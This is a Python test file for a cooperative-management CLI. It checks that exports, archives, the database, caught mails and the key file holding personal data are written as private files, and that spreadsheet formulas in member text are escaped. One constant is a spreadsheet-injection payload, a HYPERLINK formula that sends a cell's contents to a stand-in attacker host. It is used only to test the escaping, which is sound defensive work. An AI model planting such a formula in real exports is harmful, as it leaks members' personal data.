"""Files with personal data are private (0600) whatever was there before, and spreadsheet-like
files never carry a formula from member text."""

from __future__ import annotations

import csv
import io
import json
import os
import smtplib
from email.message import EmailMessage
from pathlib import Path

import openpyxl
from contracts_helpers import add_member, declaration
from sqlalchemy import text
from typer.testing import CliRunner

from coopflow_cli.main import app
from documents import archive
from documents.sink import MailSink
from documents.spreadsheet import csv_bytes
from governance.contracts.use_cases import contract_checks, contracts
from governance.db.engine import make_engine
from governance.db.models import Member
from governance.db.uow import UnitOfWork
from governance.kernel.rules.actor import Actor
from governance.register.rules.register_import import COLUMNS as REGISTER_COLUMNS
from governance.register.use_cases import register_import

runner = CliRunner()
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _mode(path: Path) -> int:
    return path.stat().st_mode & 0o777


def _world_readable(path: Path, content: bytes = b"old content\n") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    path.chmod(0o644)
    return path


def _import_into_the_register(first_name: str) -> None:
    row = dict(zip(REGISTER_COLUMNS, (
        "P1", "person", first_name, "Wéry", "", "", "zoe@example.org", "fr", "Liège",
        "Rue Haute 1", "4000", "Liège", "BE", "A", "2", "6000", "2019-05-02", "2019-05-03"),
        strict=True))
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=REGISTER_COLUMNS)
    writer.writeheader()
    writer.writerow(row)
    with UnitOfWork() as uow:
        register_import.import_register(uow.session, out.getvalue(), actor=Actor.staff("anna"))
        uow.commit()


def _approved_declaration(tmp_path: Path) -> int:
    member_id = add_member()
    source = tmp_path / "batch.json"
    source.write_text(json.dumps([declaration(member_id, days=5).model_dump(mode="json")]))
    assert runner.invoke(app, ["contracts", "import", str(source), "--staff", "anna"]).exit_code == 0
    with UnitOfWork() as uow:
        [declaration_id] = contracts.pending_ids(uow.session)
    with UnitOfWork() as uow:
        contract_checks.check_declarations(uow, [declaration_id])
    for staff in ("anna", "bob"):
        runner.invoke(app, ["contracts", "decide", str(declaration_id), "approve", "--staff", staff])
    return member_id


def test_the_dimona_export_replaces_a_readable_file_with_a_private_one_and_escapes_formulas(
    coop_env, tmp_path, faults_report
) -> None:  # type: ignore[no-untyped-def]
    member_id = _approved_declaration(tmp_path)
    with UnitOfWork() as uow:
        member = uow.session.get_one(Member, member_id)
        member.first_name = FORMULA  # stored before the input checks, or typed by staff
        member.national_number_enc = uow.cipher.encrypt("85073003328")
        uow.commit()
    for name in ("dimona.csv", "dimona.json"):
        out = _world_readable(tmp_path / "exports" / name)
        result = runner.invoke(app, ["contracts", "dimona-export", "--out", str(out),
                                     "--staff", "pia", "--with-niss"])
        assert result.exit_code == 0, result.output
        assert _mode(out) == 0o600, name
    rows = list(csv.DictReader(io.StringIO((tmp_path / "exports" / "dimona.csv")
                                           .read_text(encoding="utf-8-sig"))))
    assert rows[0]["niss"] == "85073003328"
    assert rows[0]["worker_name"].startswith("'=HYPERLINK(")
    assert [p.name for p in (tmp_path / "exports").iterdir()] != []  # no temporary left behind
    assert not [p for p in (tmp_path / "exports").iterdir() if p.name.startswith(".")]
    faults_report.add("personal file: Dimona export over a 0644 file, name '=HYPERLINK(…)'",
                      attempts=2, faults=2, outcome="0600 (csv and json); cell written '=…")


def test_archived_documents_and_the_register_export_are_private(
    coop_env, tmp_path, faults_report
) -> None:  # type: ignore[no-untyped-def]
    target = _world_readable(coop_env.archive / "member" / "1" / "letter.docx")
    archive.store(coop_env.archive, "member/1", "letter.docx", b"new letter")
    assert _mode(target) == 0o600 and target.read_bytes() == b"new letter"

    _import_into_the_register(FORMULA)
    out = tmp_path / "exports"
    xlsx = _world_readable(out / "register-2030-01-01.xlsx")
    docx = _world_readable(out / "register-2030-01-01.docx")
    result = runner.invoke(app, ["register", "export", "--as-at", "2030-01-01", "--out", str(out),
                                 "--language", "en"])
    assert result.exit_code == 0, result.output
    assert _mode(xlsx) == 0o600 and _mode(docx) == 0o600 and docx.read_bytes()[:2] == b"PK"
    cells = [c for row in openpyxl.load_workbook(xlsx)["Class A"].iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith("=")]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    faults_report.add("personal file: archive, register XLSX and document over 0644 files", attempts=2,
                      faults=2, outcome="0600; formula cells stored as text")


def test_a_new_sqlite_database_and_its_journal_are_private(tmp_path, faults_report) -> None:  # type: ignore[no-untyped-def]
    database = tmp_path / "var" / "coop.sqlite3"
    database.parent.mkdir()
    engine = make_engine(f"sqlite:///{database}")
    with engine.begin() as conn:
        conn.execute(text("CREATE TABLE t (name TEXT)"))
        conn.execute(text("INSERT INTO t VALUES ('Zoë')"))
        wal = Path(f"{database}-wal")
        assert wal.exists() and _mode(wal) == 0o600
    engine.dispose()
    assert _mode(database) == 0o600
    faults_report.add("personal file: new SQLite database (+ -wal)", attempts=1, faults=1,
                      outcome="0600")


def test_mails_caught_by_the_local_sink_are_private(tmp_path) -> None:  # type: ignore[no-untyped-def]
    with MailSink(tmp_path / "mail") as sink:
        message = EmailMessage()
        message["From"], message["To"], message["Subject"] = "a@example.org", "b@example.org", "x"
        message.set_content("Your ballot code: 7K3M-Q9TD")
        with smtplib.SMTP("127.0.0.1", sink.port) as client:
            client.send_message(message)
    [eml] = list((tmp_path / "mail").glob("*.eml"))
    assert _mode(eml) == 0o600


def test_every_cell_that_could_start_a_formula_is_escaped_in_csv_files() -> None:
    risky = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]
    data = csv_bytes(["name"], [[v] for v in [*risky, "Zoë", 42]]).decode("utf-8-sig")
    cells = [row[0] for row in csv.reader(io.StringIO(data, newline=""))][1:]
    assert cells == ["'" + v for v in risky] + ["Zoë", "42"]


def test_the_key_file_and_its_folder_are_private(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from governance.config import Settings

    Settings(var_dir=tmp_path / "var").resolved_encryption_key()
    assert _mode(tmp_path / "var") == 0o700
    assert _mode(tmp_path / "var" / "local-encryption.key") == 0o600
    assert os.listdir(tmp_path / "var") == ["local-encryption.key"]
